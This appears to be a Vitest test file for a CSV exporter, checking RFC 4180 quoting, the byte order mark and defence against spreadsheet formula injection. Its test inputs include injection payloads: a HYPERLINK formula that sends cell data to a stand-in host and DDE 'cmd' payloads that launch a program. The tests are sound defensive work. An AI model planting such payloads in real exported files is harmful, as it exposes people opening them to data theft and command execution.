import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvField, inertCell, toCsv } from './csv';

describe('CSV export', () => {
  it('starts with a UTF-8 byte order mark and quotes per RFC 4180', () => {
    const text = toCsv(
      ['a', 'b'],
      [
        ['1,5', 'say "hi"'],
        ['x', 'line\nbreak'],
      ],
    );
    expect(text).toBe(`${CSV_BOM}a,b\r\n"1,5","say ""hi"""\r\nx,"line\nbreak"\r\n`);
    expect([...new TextEncoder().encode(text).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['=1+1', "'=1+1"],
    ['+cmd|"/C calc"!A0', `"'+cmd|""/C calc""!A0"`],
    ['-1+1', "'-1+1"],
    ['-2+3+cmd|" /C calc"!A0', `"'-2+3+cmd|"" /C calc""!A0"`],
    ['@SUM(1,2)', `"'@SUM(1,2)"`],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['=', "'="],
    ['-', "'-"],
    ['+', "'+"],
    ['-BTC', "'-BTC"],
    ['-0.5.1', "'-0.5.1"],
    ['1e3', '1e3'],
  ])('makes %j inert: %s', (cell, field) => {
    expect(csvField(cell)).toBe(field);
  });

  it.each(['-0.5', '+1e3', '-26.725', '70990', '0', '.5', '-.5', '1.', '+0.00000001', '-1E-8', '71034.5'])(
    'leaves the number %s as it is',
    (n) => {
      expect(inertCell(n)).toBe(n);
      expect(csvField(n)).toBe(n);
    },
  );

  it.each(['BTC-USDT', 'rails-btc', 'a=b', 'user@example', '2025-08-29T14:36:22.146Z', ''])(
    'leaves text that does not start a formula as it is: %j',
    (text) => {
      expect(csvField(text)).toBe(text);
    },
  );

  it('neutralizes header cells too', () => {
    expect(toCsv(['=cmd'], [])).toBe(`${CSV_BOM}'=cmd\r\n`);
  });
});
